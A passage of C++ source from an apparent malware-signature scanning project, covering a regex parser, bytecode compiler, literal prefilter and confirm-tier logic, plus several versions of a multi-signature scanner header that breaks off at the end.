  // cannot blow up, so no budget is charged) and only regex-shaped
  // patterns run the VM. This is what engine::scan confirms candidates
  // with; the equivalence is pinned by differential tests.
  //
  // `anchor_hint`, when not npos, promises that the leftmost occurrence of
  // required_literal() in `text` starts exactly there (the prefilter's
  // tier-2 confirm already found it). The compiled tiers then seed their
  // anchor search at the hint instead of re-scanning the text from `from`
  // — the bytes at the hint are still verified, so a wrong hint costs
  // correct-but-slower, never a wrong span, as long as the leftmost
  // promise holds. Patterns whose confirm anchor differs from
  // required_literal() ignore the hint.
  SpanResult confirm_span(std::string_view text, VmScratch& scratch,
                          std::size_t from = 0, std::uint64_t budget = 0,
                          std::size_t anchor_hint = knpos) const;

  // Convenience: true iff the pattern occurs anywhere in `text`.
  bool found_in(std::string_view text) const { return search(text).matched; }

  const std::string& source() const { return source_; }

  // Name of capture group i (empty for unnamed); group_count() excludes the
  // implicit whole-match group.
  std::size_t group_count() const;
  const std::string& group_name(std::size_t index) const;

  // Longest literal every match must contain (pre-filter); empty if the
  // pattern has no usable required literal.
  const std::string& required_literal() const;

  // Read-only view of the compiled program (match/program.h) — the seam
  // the static analyzer (analyze/analyze.h) walks to bound VM behavior.
  // The program is immutable and shared by all copies of this Pattern;
  // the reference stays valid as long as any copy lives.
  const detail::Program& compiled_program() const;

  // Escapes all regex metacharacters in `text` so the result matches it
  // literally. This is what the signature compiler uses for fixed tokens.
  static std::string escape(std::string_view text);

 private:
  Pattern();
  std::string source_;
  std::shared_ptr<const detail::Program> program_;
};

}  // namespace kizzle::match
