#include "match/pattern.h"

#include <algorithm>
#include <limits>
#include <memory>

#include "match/program.h"

namespace kizzle::match {

namespace detail {

namespace {

constexpr std::uint32_t kInfinity = std::numeric_limits<std::uint32_t>::max();
constexpr std::size_t kMaxProgramSize = 1u << 20;

// ---------------------------- AST ----------------------------

struct Node;
using NodePtr = std::unique_ptr<Node>;

struct Node {
  enum class Kind { Seq, Alt, Lit, Cls, Any, Rep, Grp, Bref, Bol, Eol };
  Kind kind;

  // Lit
  unsigned char ch = 0;
  // Cls
  ByteSet set;
  // Rep
  std::uint32_t min = 0;
  std::uint32_t max = 0;  // kInfinity for unbounded
  // Grp: group == 0 means non-capturing
  std::uint32_t group = 0;
  // Bref
  std::uint32_t ref = 0;
  // Seq/Alt children; Rep/Grp single child in children[0]
  std::vector<NodePtr> children;
};

NodePtr make(Node::Kind kind) {
  auto n = std::make_unique<Node>();
  n->kind = kind;
  return n;
}

bool nullable(const Node& n) {
  switch (n.kind) {
    case Node::Kind::Lit:
    case Node::Kind::Cls:
    case Node::Kind::Any:
      return false;
    case Node::Kind::Bol:
    case Node::Kind::Eol:
    case Node::Kind::Bref:  // an unmatched/empty group matches ""
      return true;
    case Node::Kind::Rep:
      return n.min == 0 || nullable(*n.children[0]);
    case Node::Kind::Grp:
      return nullable(*n.children[0]);
    case Node::Kind::Seq:
      return std::all_of(n.children.begin(), n.children.end(),
                         [](const NodePtr& c) { return nullable(*c); });
    case Node::Kind::Alt:
      return std::any_of(n.children.begin(), n.children.end(),
                         [](const NodePtr& c) { return nullable(*c); });
  }
  return true;
}

// ---------------------------- Parser ----------------------------

class Parser {
 public:
  Parser(std::string_view src, Program& prog) : src_(src), prog_(prog) {}

  NodePtr run() {
    prog_.group_names.assign(1, "");  // group 0 = whole match
    NodePtr root = parse_alt();
    if (pos_ != src_.size()) fail("unexpected ')'");
    prog_.n_groups = prog_.group_names.size() - 1;
    return root;
  }

 private:
  [[noreturn]] void fail(const std::string& what) const {
    throw PatternError(what, pos_);
  }

  bool eof() const { return pos_ >= src_.size(); }
  char peek() const { return src_[pos_]; }
  char take() { return src_[pos_++]; }
  bool accept(char c) {
    if (!eof() && peek() == c) {
      ++pos_;
      return true;
    }
    return false;
  }

  NodePtr parse_alt() {
    NodePtr first = parse_seq();
    if (eof() || peek() != '|') return first;
    NodePtr alt = make(Node::Kind::Alt);
    alt->children.push_back(std::move(first));
    while (accept('|')) {
      alt->children.push_back(parse_seq());
    }
    return alt;
  }

  NodePtr parse_seq() {
    NodePtr seq = make(Node::Kind::Seq);
    while (!eof() && peek() != '|' && peek() != ')') {
      seq->children.push_back(parse_repeat());
    }
    return seq;
  }

  NodePtr parse_repeat() {
    NodePtr atom = parse_atom();
    for (;;) {
      if (eof()) return atom;
      std::uint32_t min;
      std::uint32_t max;
      const char c = peek();
      if (c == '*') {
        ++pos_;
        min = 0;
        max = kInfinity;
      } else if (c == '+') {
        ++pos_;
        min = 1;
        max = kInfinity;
      } else if (c == '?') {
        ++pos_;
        min = 0;
        max = 1;
      } else if (c == '{') {
        const std::size_t save = pos_;
        ++pos_;
        if (!parse_bounds(&min, &max)) {
          pos_ = save;  // not a quantifier; '{' is a literal
          return atom;
        }
      } else {
        return atom;
      }
      if (atom->kind == Node::Kind::Bol || atom->kind == Node::Kind::Eol) {
        fail("quantifier on anchor");
      }
      NodePtr rep = make(Node::Kind::Rep);
      rep->min = min;
      rep->max = max;
      rep->children.push_back(std::move(atom));
      atom = std::move(rep);
    }
  }

  // Parses "m}" or "m,}" or "m,n}" after the '{'. Returns false (without
  // consuming) when the brace content is not a quantifier.
  bool parse_bounds(std::uint32_t* min, std::uint32_t* max) {
    auto digits = [&]() -> std::optional<std::uint32_t> {
      if (eof() || peek() < '0' || peek() > '9') return std::nullopt;
      std::uint64_t v = 0;
      while (!eof() && peek() >= '0' && peek() <= '9') {
        v = v * 10 + static_cast<std::uint64_t>(take() - '0');
        if (v > 1'000'000) fail("quantifier bound too large");
      }
      return static_cast<std::uint32_t>(v);
    };
    auto m = digits();
    if (!m) return false;
    *min = *m;
    if (accept('}')) {
      *max = *min;
      return true;
    }
    if (!accept(',')) return false;
    if (accept('}')) {
      *max = kInfinity;
      return true;
    }
    auto n = digits();
    if (!n || !accept('}')) return false;
    *max = *n;
    if (*max < *min) fail("quantifier bounds out of order");
    return true;
  }

  NodePtr parse_atom() {
    if (eof()) fail("pattern ends unexpectedly");
    const char c = take();
    switch (c) {
      case '(':
        return parse_group();
      case '[':
        return parse_class();
      case '.':
        return make(Node::Kind::Any);
      case '^':
        return make(Node::Kind::Bol);
      case '$':
        return make(Node::Kind::Eol);
      case '\\':
        return parse_escape();
      case '*':
      case '+':
      case '?':
        fail("quantifier with nothing to repeat");
      default: {
        NodePtr lit = make(Node::Kind::Lit);
        lit->ch = static_cast<unsigned char>(c);
        return lit;
      }
    }
  }

  NodePtr parse_group() {
    std::uint32_t group = 0;
    if (accept('?')) {
      if (accept(':')) {
        // non-capturing
      } else if (accept('<')) {
        std::string name;
        while (!eof() && peek() != '>') name.push_back(take());
        if (!accept('>')) fail("unterminated group name");
        if (name.empty()) fail("empty group name");
        for (const auto& existing : prog_.group_names) {
          if (existing == name) fail("duplicate group name");
        }
        group = static_cast<std::uint32_t>(prog_.group_names.size());
        prog_.group_names.push_back(name);
      } else {
        fail("unsupported group modifier");
      }
    } else {
      group = static_cast<std::uint32_t>(prog_.group_names.size());
      prog_.group_names.emplace_back();  // unnamed capture
    }
    NodePtr body = parse_alt();
    if (!accept(')')) fail("unterminated group");
    NodePtr grp = make(Node::Kind::Grp);
    grp->group = group;
    grp->children.push_back(std::move(body));
    return grp;
  }

  NodePtr parse_class() {
    NodePtr cls = make(Node::Kind::Cls);
    bool negated = accept('^');
    bool first = true;
    while (!eof() && (peek() != ']' || first)) {
      first = false;
      unsigned char lo = class_char();
      if (!eof() && peek() == '-' && pos_ + 1 < src_.size() &&
          src_[pos_ + 1] != ']') {
        ++pos_;  // consume '-'
        unsigned char hi = class_char();
        if (hi < lo) fail("character range out of order");
        for (unsigned v = lo; v <= hi; ++v) cls->set.set(v);
      } else {
        cls->set.set(lo);
      }
    }
    if (!accept(']')) fail("unterminated character class");
    if (negated) {
      cls->set.flip();
      cls->set.reset('\n');  // '.'-like: negated classes do not cross lines
    }
    return cls;
  }

  unsigned char class_char() {
    char c = take();
    if (c != '\\') return static_cast<unsigned char>(c);
    if (eof()) fail("trailing backslash in class");
    char e = take();
    switch (e) {
      case 'n': return '\n';
      case 't': return '\t';
      case 'r': return '\r';
      case 'f': return '\f';
      case 'v': return '\v';
      case '0': return '\0';
      default: return static_cast<unsigned char>(e);
    }
  }

  NodePtr parse_escape() {
    if (eof()) fail("trailing backslash");
    const char c = take();
    auto lit = [&](unsigned char ch) {
      NodePtr n = make(Node::Kind::Lit);
      n->ch = ch;
      return n;
    };
    auto cls = [&](std::string_view chars, bool digits_az) {
      NodePtr n = make(Node::Kind::Cls);
      if (digits_az) {
        // handled by caller filling set below
      }
      for (char x : chars) n->set.set(static_cast<unsigned char>(x));
      return n;
    };
    switch (c) {
      case 'n': return lit('\n');
      case 't': return lit('\t');
      case 'r': return lit('\r');
      case 'f': return lit('\f');
      case 'v': return lit('\v');
      case '0': return lit('\0');
      case 'd': {
        NodePtr n = make(Node::Kind::Cls);
        for (unsigned v = '0'; v <= '9'; ++v) n->set.set(v);
        return n;
      }
      case 'D': {
        NodePtr n = make(Node::Kind::Cls);
        for (unsigned v = '0'; v <= '9'; ++v) n->set.set(v);
        n->set.flip();
        n->set.reset('\n');
        return n;
      }
      case 'w': {
        NodePtr n = make(Node::Kind::Cls);
        for (unsigned v = '0'; v <= '9'; ++v) n->set.set(v);
        for (unsigned v = 'a'; v <= 'z'; ++v) n->set.set(v);
        for (unsigned v = 'A'; v <= 'Z'; ++v) n->set.set(v);
        n->set.set('_');
        return n;
      }
      case 'W': {
        NodePtr n = make(Node::Kind::Cls);
        for (unsigned v = '0'; v <= '9'; ++v) n->set.set(v);
        for (unsigned v = 'a'; v <= 'z'; ++v) n->set.set(v);
        for (unsigned v = 'A'; v <= 'Z'; ++v) n->set.set(v);
        n->set.set('_');
        n->set.flip();
        n->set.reset('\n');
        return n;
      }
      case 's': return cls(" \t\r\n\f\v", false);
      case 'S': {
        NodePtr n = cls(" \t\r\n\f\v", false);
        n->set.flip();
        return n;
      }
      case 'k': {
        if (!accept('<')) fail("expected '<' after \\k");
        std::string name;
        while (!eof() && peek() != '>') name.push_back(take());
        if (!accept('>')) fail("unterminated \\k<name>");
        for (std::size_t g = 1; g < prog_.group_names.size(); ++g) {
          if (prog_.group_names[g] == name) {
            NodePtr n = make(Node::Kind::Bref);
            n->ref = static_cast<std::uint32_t>(g);
            return n;
          }
        }
        fail("backreference to unknown group name '" + name + "'");
      }
      case '1': case '2': case '3': case '4': case '5':
      case '6': case '7': case '8': case '9': {
        const auto g = static_cast<std::uint32_t>(c - '0');
        if (g >= prog_.group_names.size()) {
          fail("backreference to undefined group");
        }
        NodePtr n = make(Node::Kind::Bref);
        n->ref = g;
        return n;
      }
      default:
        if ((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z')) {
          fail(std::string("unknown escape \\") + c);
        }
        return lit(static_cast<unsigned char>(c));
    }
  }

  std::string_view src_;
  Program& prog_;
  std::size_t pos_ = 0;
};

// ---------------------------- Compiler ----------------------------

class Compiler {
 public:
  explicit Compiler(Program& prog) : prog_(prog) {}

  void run(const Node& root) {
    emit_save(0);
    compile(root);
    emit_save(1);
    emit(Instr{Op::Match, 0, 0});
  }

 private:
  std::uint32_t here() const {
    return static_cast<std::uint32_t>(prog_.code.size());
  }

  std::uint32_t emit(Instr i) {
    if (prog_.code.size() >= kMaxProgramSize) {
      throw PatternError("pattern too large to compile", 0);
    }
    prog_.code.push_back(i);
    return static_cast<std::uint32_t>(prog_.code.size() - 1);
  }

  void emit_save(std::uint32_t slot) { emit(Instr{Op::Save, slot, 0}); }

  std::uint32_t class_index(const ByteSet& set) {
    for (std::size_t i = 0; i < prog_.classes.size(); ++i) {
      if (prog_.classes[i] == set) return static_cast<std::uint32_t>(i);
    }
    prog_.classes.push_back(set);
    return static_cast<std::uint32_t>(prog_.classes.size() - 1);
  }

  void compile(const Node& n) {
    switch (n.kind) {
      case Node::Kind::Lit:
        emit(Instr{Op::Char, n.ch, 0});
        return;
      case Node::Kind::Cls:
        emit(Instr{Op::Class, class_index(n.set), 0});
        return;
      case Node::Kind::Any:
        emit(Instr{Op::Any, 0, 0});
        return;
      case Node::Kind::Bol:
        emit(Instr{Op::Bol, 0, 0});
        return;
      case Node::Kind::Eol:
        emit(Instr{Op::Eol, 0, 0});
        return;
      case Node::Kind::Bref:
        emit(Instr{Op::Backref, n.ref, 0});
        return;
      case Node::Kind::Grp:
        if (n.group == 0) {
          compile(*n.children[0]);
        } else {
          emit_save(2 * n.group);
          compile(*n.children[0]);
          emit_save(2 * n.group + 1);
        }
        return;
      case Node::Kind::Seq:
        for (const NodePtr& c : n.children) compile(*c);
        return;
      case Node::Kind::Alt:
        compile_alt(n);
        return;
      case Node::Kind::Rep:
        compile_rep(n);
        return;
    }
  }

  void compile_alt(const Node& n) {
    // split a, next; a; jmp end; next: split b, next2; ...
    std::vector<std::uint32_t> jumps;
    for (std::size_t i = 0; i < n.children.size(); ++i) {
      if (i + 1 == n.children.size()) {
        compile(*n.children[i]);
      } else {
        const std::uint32_t split = emit(Instr{Op::Split, 0, 0});
        prog_.code[split].x = here();
        compile(*n.children[i]);
        jumps.push_back(emit(Instr{Op::Jmp, 0, 0}));
        prog_.code[split].y = here();
      }
    }
    for (std::uint32_t j : jumps) prog_.code[j].x = here();
  }

  void compile_rep(const Node& n) {
    const Node& body = *n.children[0];
    // Mandatory copies.
    for (std::uint32_t i = 0; i < n.min; ++i) compile(body);
    if (n.max == n.min) return;
    if (n.max == kInfinity) {
      // Greedy star. If the body can match empty, guard with a progress
      // check to keep the backtracker finite.
      const bool guard = nullable(body);
      const std::uint32_t progress_slot =
          guard ? static_cast<std::uint32_t>(prog_.n_progress++) : 0;
      const std::uint32_t loop = here();
      const std::uint32_t split = emit(Instr{Op::Split, 0, 0});
      prog_.code[split].x = here();
      if (guard) emit(Instr{Op::Progress, progress_slot, 0});
      compile(body);
      emit(Instr{Op::Jmp, loop, 0});
      prog_.code[split].y = here();
      return;
    }
    // Bounded extras: (x (x (x)?)?)? — greedy nesting.
    std::vector<std::uint32_t> splits;
    for (std::uint32_t i = n.min; i < n.max; ++i) {
      splits.push_back(emit(Instr{Op::Split, 0, 0}));
      prog_.code[splits.back()].x = here();
      compile(body);
    }
    for (std::uint32_t s : splits) prog_.code[s].y = here();
  }

  Program& prog_;
};

// ---------------------- Literal pre-filter ----------------------

struct Width {
  std::uint64_t min = 0;
  std::uint64_t max = 0;  // kWidthInf for unbounded
};
constexpr std::uint64_t kWidthInf = std::numeric_limits<std::uint64_t>::max();

Width width_of(const Node& n) {
  switch (n.kind) {
    case Node::Kind::Lit:
    case Node::Kind::Cls:
    case Node::Kind::Any:
      return {1, 1};
    case Node::Kind::Bol:
    case Node::Kind::Eol:
      return {0, 0};
    case Node::Kind::Bref:
      return {0, kWidthInf};
    case Node::Kind::Grp:
      return width_of(*n.children[0]);
    case Node::Kind::Rep: {
      const Width w = width_of(*n.children[0]);
      Width out;
      out.min = w.min * n.min;
      if (n.max == kInfinity || w.max == kWidthInf) {
        out.max = (w.max == 0) ? 0 : kWidthInf;
      } else {
        out.max = w.max * n.max;
      }
      return out;
    }
    case Node::Kind::Seq: {
      Width out{0, 0};
      for (const NodePtr& c : n.children) {
        const Width w = width_of(*c);
        out.min += w.min;
        out.max = (out.max == kWidthInf || w.max == kWidthInf)
                      ? kWidthInf
                      : out.max + w.max;
      }
      return out;
    }
    case Node::Kind::Alt: {
      Width out{kWidthInf, 0};
      for (const NodePtr& c : n.children) {
        const Width w = width_of(*c);
        out.min = std::min(out.min, w.min);
        out.max = (out.max == kWidthInf || w.max == kWidthInf)
                      ? kWidthInf
                      : std::max(out.max, w.max);
      }
      return out;
    }
  }
  return {0, kWidthInf};
}

// Flattens the required top-level item sequence: Seq children in order;
// capturing groups are transparent; everything else is a single item.
void flatten(const Node& n, std::vector<const Node*>& out) {
  if (n.kind == Node::Kind::Seq) {
    for (const NodePtr& c : n.children) flatten(*c, out);
  } else if (n.kind == Node::Kind::Grp) {
    flatten(*n.children[0], out);
  } else {
    out.push_back(&n);
  }
}

// Widest min-to-max spread of the literal's offset from the match start
// for which search() still enumerates candidate start positions around
// each memmem hit. Past this, every hit would spawn thousands of anchored
// VM attempts — worse than the plain scan — so the literal degrades to a
// quick-reject filter only. (Unrelated to any prefilter set-size limit;
// it bounds per-hit work inside ONE pattern's search.)
constexpr std::uint64_t kMaxLiteralOffsetSpread = 4096;

// The longest literal run of the flattened item sequence, with its offset
// bounds from the match start and the item range [item_begin, item_end)
// it occupies — the confirm-program classifier anchors on that range.
struct LitRun {
  std::string text;
  std::uint64_t off_min = 0;
  std::uint64_t off_max = 0;
  std::size_t item_begin = 0;
  std::size_t item_end = 0;
};

std::optional<LitRun> best_literal_run(const std::vector<const Node*>& items) {
  std::optional<LitRun> best;
  LitRun run;
  std::uint64_t off_min = 0;
  std::uint64_t off_max = 0;

  auto close_run = [&](std::size_t end_item) {
    run.item_end = end_item;
    if (!run.text.empty() && (!best || run.text.size() > best->text.size())) {
      best = run;
    }
    run.text.clear();
  };

  for (std::size_t i = 0; i < items.size(); ++i) {
    const Node* item = items[i];
    if (item->kind == Node::Kind::Lit) {
      if (run.text.empty()) {
        run.off_min = off_min;
        run.off_max = off_max;
        run.item_begin = i;
      }
      run.text.push_back(static_cast<char>(item->ch));
      off_min += 1;
      off_max = (off_max == kWidthInf) ? kWidthInf : off_max + 1;
      continue;
    }
    close_run(i);
    const Width w = width_of(*item);
    off_min += w.min;
    off_max = (off_max == kWidthInf || w.max == kWidthInf) ? kWidthInf
                                                           : off_max + w.max;
  }
  close_run(items.size());
  return best;
}

void find_literal(const std::vector<const Node*>& items, Program& prog) {
  const std::optional<LitRun> best = best_literal_run(items);
  if (!best || best->text.size() < 3) return;
  prog.literal = best->text;
  prog.lit_min_prefix = static_cast<std::size_t>(best->off_min);
  prog.lit_usable = true;
  if (best->off_max != kWidthInf &&
      best->off_max - best->off_min <= kMaxLiteralOffsetSpread) {
    prog.lit_max_prefix = static_cast<std::size_t>(best->off_max);
  } else {
    // Unbounded / too wide offset: literal is a quick-reject filter only.
    prog.lit_max_prefix = std::numeric_limits<std::size_t>::max();
  }
}

// ---------------------- Confirmation tier ----------------------
//
// Classifies the pattern for engine::scan's candidate-confirmation path
// and compiles the cheap confirm program where the shape allows it. The
// equivalence argument (same spans as the backtracking VM) rests on the
// pattern being one linear item sequence: a fixed-width prefix, the
// anchor literal, and bounded greedy suffix steps. Anything that breaks
// the linearity or the bounds — alternation, backreferences, anchors,
// unbounded repeats outside the quick-reject literal shape, repeat bodies
// wider than one byte — stays on the VM tier.

// Per-suffix cap on the greedy walk's backtracking alternatives (the
// product of every bounded class's count range). Signatures stay far
// below it; patterns past it keep the VM, whose step budget handles them.
constexpr std::uint64_t kMaxConfirmAttempts = 1u << 12;
// Cap on total confirm steps: bounds the suffix walk's recursion depth.
constexpr std::size_t kMaxConfirmSteps = 64;

bool tree_confirmable(const Node& n) {
  switch (n.kind) {
    case Node::Kind::Alt:   // branch: match start/end no longer unique
    case Node::Kind::Bref:  // needs capture slots
    case Node::Kind::Bol:   // position assertions
    case Node::Kind::Eol:
      return false;
    default:
      break;
  }
  return std::all_of(n.children.begin(), n.children.end(),
                     [](const NodePtr& c) { return tree_confirmable(*c); });
}

std::uint32_t intern_class(Program& prog, const ByteSet& set) {
  for (std::size_t i = 0; i < prog.classes.size(); ++i) {
    if (prog.classes[i] == set) return static_cast<std::uint32_t>(i);
  }
  prog.classes.push_back(set);
  return static_cast<std::uint32_t>(prog.classes.size() - 1);
}

ByteSet any_byte_set() {
  ByteSet set;
  set.set();
  set.reset('\n');  // '.' never crosses lines
  return set;
}

// Converts items [begin, end) into confirm steps. `fixed` (prefix side)
// additionally requires every step to consume an exact byte count so the
// anchor's offset from the match start is a constant. Returns false when
// an item doesn't fit the confirmable shape; `width` accumulates the
// minimum bytes consumed (== exact bytes when fixed).
bool steps_for(const std::vector<const Node*>& items, std::size_t begin,
               std::size_t end, bool fixed, Program& prog,
               std::vector<ConfirmStep>& out, std::size_t* width) {
  auto push_class = [&](const ByteSet& set, std::uint32_t min,
                        std::uint32_t max) {
    ConfirmStep step;
    step.kind = ConfirmStep::Kind::kClass;
    step.cls = intern_class(prog, set);
    step.min = min;
    step.max = max;
    out.push_back(std::move(step));
    *width += min;
  };
  for (std::size_t i = begin; i < end; ++i) {
    const Node& n = *items[i];
    switch (n.kind) {
      case Node::Kind::Lit:
        if (out.empty() || out.back().kind != ConfirmStep::Kind::kLiteral) {
          out.emplace_back();  // defaults to an empty kLiteral step
        }
        out.back().lit.push_back(static_cast<char>(n.ch));
        *width += 1;
        break;
      case Node::Kind::Cls:
        push_class(n.set, 1, 1);
        break;
      case Node::Kind::Any:
        push_class(any_byte_set(), 1, 1);
        break;
      case Node::Kind::Rep: {
        if (n.max == kInfinity) return false;
        if (fixed && n.min != n.max) return false;
        const Node& body = *n.children[0];
        ByteSet set;
        if (body.kind == Node::Kind::Lit) {
          set.set(body.ch);
        } else if (body.kind == Node::Kind::Cls) {
          set = body.set;
        } else if (body.kind == Node::Kind::Any) {
          set = any_byte_set();
        } else {
          return false;  // repeat body wider than one byte
        }
        if (n.max > 0) push_class(set, n.min, n.max);
        break;
      }
      default:
        return false;
    }
  }
  return true;
}

void classify_confirm(const Node& root, const std::vector<const Node*>& items,
                      Program& prog) {
  prog.tier = ConfirmTier::kRegex;
  if (!tree_confirmable(root)) return;

  if (std::all_of(items.begin(), items.end(), [](const Node* n) {
        return n->kind == Node::Kind::Lit;
      })) {
    // Pure literal (any length, even below the prefilter-usability
    // threshold): confirmation is exactly text.find().
    prog.tier = ConfirmTier::kLiteral;
    for (const Node* n : items) {
      prog.confirm.anchor.push_back(static_cast<char>(n->ch));
    }
    return;
  }

  const std::optional<LitRun> best = best_literal_run(items);
  if (!best) return;  // nothing to anchor on
  ConfirmProgram cp;
  cp.anchor = best->text;
  std::size_t width = 0;
  if (!steps_for(items, 0, best->item_begin, /*fixed=*/true, prog, cp.prefix,
                 &width)) {
    return;
  }
  cp.prefix_width = width;
  std::size_t ignored = 0;
  if (!steps_for(items, best->item_end, items.size(), /*fixed=*/false, prog,
                 cp.suffix, &ignored)) {
    return;
  }
  std::uint64_t attempts = 1;
  for (const ConfirmStep& step : cp.suffix) {
    if (step.kind != ConfirmStep::Kind::kClass) continue;
    attempts *= step.max - step.min + 1;
    if (attempts > kMaxConfirmAttempts) return;
  }
  if (cp.prefix.size() + cp.suffix.size() > kMaxConfirmSteps) return;
  prog.confirm = std::move(cp);
  prog.tier = ConfirmTier::kLiteralDominated;
}

// The anchor-hint contract (pattern.h confirm_span) only holds when the
// confirm anchor is the very literal the prefilter registered
// (required_literal() == Program::literal) — a hint is the leftmost
// occurrence of *that* string. find_literal and classify_confirm both pick
// the best run, so this is the common case; it degrades to false (hint
// ignored) whenever either side was gated away.
void mark_hintable(Program& prog) {
  prog.confirm_hintable = prog.tier != ConfirmTier::kRegex &&
                          prog.lit_usable &&
                          prog.literal == prog.confirm.anchor;
}

}  // namespace

}  // namespace detail

// ---------------------------- Pattern ----------------------------

Pattern::Pattern() = default;
Pattern::~Pattern() = default;
Pattern::Pattern(Pattern&&) noexcept = default;
Pattern& Pattern::operator=(Pattern&&) noexcept = default;

// The compiled program is immutable once compile() returns, so copies
// share it: copying a Pattern costs one shared_ptr bump.
Pattern::Pattern(const Pattern&) = default;
Pattern& Pattern::operator=(const Pattern&) = default;

Pattern Pattern::compile(std::string_view source) {
  Pattern p;
  p.source_ = std::string(source);
  auto program = std::make_shared<detail::Program>();
  detail::Parser parser(source, *program);
  auto root = parser.run();
  detail::Compiler compiler(*program);
  compiler.run(*root);
  std::vector<const detail::Node*> items;
  detail::flatten(*root, items);
  if (!items.empty() && items.front()->kind == detail::Node::Kind::Bol) {
    program->anchored_bol = true;
  }
  detail::find_literal(items, *program);
  detail::classify_confirm(*root, items, *program);
  detail::mark_hintable(*program);
  p.program_ = std::move(program);
  return p;
}

ConfirmTier Pattern::confirm_tier() const { return program_->tier; }

std::size_t Pattern::group_count() const { return program_->n_groups; }

const std::string& Pattern::group_name(std::size_t index) const {
  return program_->group_names.at(index);
}

const detail::Program& Pattern::compiled_program() const { return *program_; }

const std::string& Pattern::required_literal() const {
  return program_->literal;
}

std::string Pattern::escape(std::string_view text) {
  static constexpr std::string_view kMeta = "^$.|?*+()[]{}\\/";
  std::string out;
  out.reserve(text.size() + 8);
  for (char c : text) {
    if (kMeta.find(c) != std::string_view::npos) out.push_back('\\');
    out.push_back(c);
  }
  return out;
}

}  // namespace kizzle::match
