// Multi-signature scanner: a mutable signature container over the unified
// scan engine (engine/engine.h).
//
// Holds a set of compiled signatures with ids and scans normalized sample
// text against all of them, reporting every hit. Both Kizzle-generated
// and hand-written (simulated-analyst) signatures are deployed through
// this interface.
//
// Scanning routes through engine::scan: one compiled engine::Database
// (shared two-stage literal prefilter — Teddy SIMD first stage with an
// Aho–Corasick fallback, match/prefilter.h — plus patterns, rebuilt lazily
// after add()) and a pool of per-worker engine::Scratch instances, so the
// steady-state scan path allocates nothing beyond the returned hit
// vector. scan(), any_match() and scan_batch() are const and safe to call
// concurrently once the signature set is frozen; scan_batch batches on a
// caller-provided pool are isolated per call (each batch waits on its own
// completion latch), so any number of concurrent batches may share one
// pool. The per-signature brute-force path survives as scan_brute_force,
// the oracle for differential tests and the baseline for benchmarks.
#pragma once

#include <atomic>
#include <cstdint>
#include <span>
#include <string>
#include <string_view>
#include <vector>

#include "engine/engine.h"
#include "match/pattern.h"

namespace kizzle {
class ThreadPool;
}

namespace kizzle::match {

struct ScanHit {
  std::size_t signature_index;  // index into the scanner's signature list
  std::size_t begin;            // match span in the scanned text
  std::size_t end;
};

class Scanner {
 public:
  Scanner() = default;
  // Scanners are stateful (lazy database, counters); copying one would
  // silently fork those. Keep them pinned.
  Scanner(const Scanner&) = delete;
  Scanner& operator=(const Scanner&) = delete;

  // Adds a compiled signature; returns its index. `name` is a free-form
  // label carried through to reporting. Not safe to call concurrently
  // with scans.
  std::size_t add(std::string name, Pattern pattern);

  std::size_t size() const { return entries_.size(); }
  const std::string& name(std::size_t index) const;
  const Pattern& pattern(std::size_t index) const;

  // Scans `text`, returning one hit per matching signature (first match
  // position each). Signatures whose search exceeds the step budget are
  // skipped and counted in budget_exceeded_count().
  std::vector<ScanHit> scan(std::string_view text) const;

  // Reference path: per-signature search with no shared prefilter. Kept as
  // the oracle for differential tests and the baseline for benchmarks;
  // scan() must return byte-identical hits.
  std::vector<ScanHit> scan_brute_force(std::string_view text) const;

  // Scans a batch of samples across `pool`, one result vector per sample
  // (same order as `texts`). Safe to call concurrently with other batches
  // on the same pool. The overload without a pool spins up a transient one
  // per call (`threads` == 0 means hardware concurrency).
  std::vector<std::vector<ScanHit>> scan_batch(
      std::span<const std::string> texts, ThreadPool& pool) const;
  std::vector<std::vector<ScanHit>> scan_batch(
      std::span<const std::string> texts, std::size_t threads = 0) const;

  // True iff any signature matches.
  bool any_match(std::string_view text) const;

  // The compiled form of the current signature set (rebuilt lazily after
  // add()); scan consumers that want event-driven matching can use it with
  // engine::scan directly.
  const engine::Database& database() const;

  std::uint64_t budget_exceeded_count() const {
    return budget_exceeded_.load(std::memory_order_relaxed);
  }

 private:
  void scan_into(std::string_view text, const engine::Database& db,
                 engine::Scratch& scratch, std::vector<ScanHit>& hits) const;

  struct Entry {
    std::string name;
    Pattern pattern;
  };
  std::vector<Entry> entries_;
  // Concurrent batch scans all bump this; relaxed is fine — it is a
  // monotonic statistic, never synchronizes anything.
  mutable std::atomic<std::uint64_t> budget_exceeded_{0};
  engine::LazyDatabase database_;
  mutable engine::ScratchPool scratches_;
};

}  // namespace kizzle::match
