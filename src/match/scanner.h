// Multi-signature scanner: the deployable "AV engine" surface.
//
// Holds a set of compiled signatures with ids and scans normalized sample
// text against all of them, reporting every hit. Both Kizzle-generated
// and hand-written (simulated-analyst) signatures are deployed through
// this interface.
#pragma once

#include <cstdint>
#include <string>
#include <string_view>
#include <vector>

#include "match/pattern.h"

namespace kizzle::match {

struct ScanHit {
  std::size_t signature_index;  // index into the scanner's signature list
  std::size_t begin;            // match span in the scanned text
  std::size_t end;
};

class Scanner {
 public:
  // Adds a compiled signature; returns its index. `name` is a free-form
  // label carried through to reporting.
  std::size_t add(std::string name, Pattern pattern);

  std::size_t size() const { return entries_.size(); }
  const std::string& name(std::size_t index) const;
  const Pattern& pattern(std::size_t index) const;

  // Scans `text`, returning one hit per matching signature (first match
  // position each). Signatures whose search exceeds the step budget are
  // skipped and counted in budget_exceeded_count().
  std::vector<ScanHit> scan(std::string_view text) const;

  // True iff any signature matches.
  bool any_match(std::string_view text) const;

  std::uint64_t budget_exceeded_count() const { return budget_exceeded_; }

 private:
  struct Entry {
    std::string name;
    Pattern pattern;
  };
  std::vector<Entry> entries_;
  mutable std::uint64_t budget_exceeded_ = 0;
};

}  // namespace kizzle::match
