// Multi-signature scanner: the deployable "AV engine" surface.
//
// Holds a set of compiled signatures with ids and scans normalized sample
// text against all of them, reporting every hit. Both Kizzle-generated
// and hand-written (simulated-analyst) signatures are deployed through
// this interface.
//
// Scanning is prefiltered: a shared Aho–Corasick automaton over every
// signature's required literal (see match/prefilter.h) turns the
// per-signature memmem passes into one streaming pass over the text, after
// which only the candidate signatures run the backtracking VM. The
// automaton is built lazily on first scan and rebuilt after add(); scan(),
// any_match() and scan_batch() are const and safe to call concurrently
// once the signature set is frozen.
#pragma once

#include <atomic>
#include <cstdint>
#include <span>
#include <string>
#include <string_view>
#include <vector>

#include "match/pattern.h"
#include "match/prefilter.h"

namespace kizzle {
class ThreadPool;
}

namespace kizzle::match {

struct ScanHit {
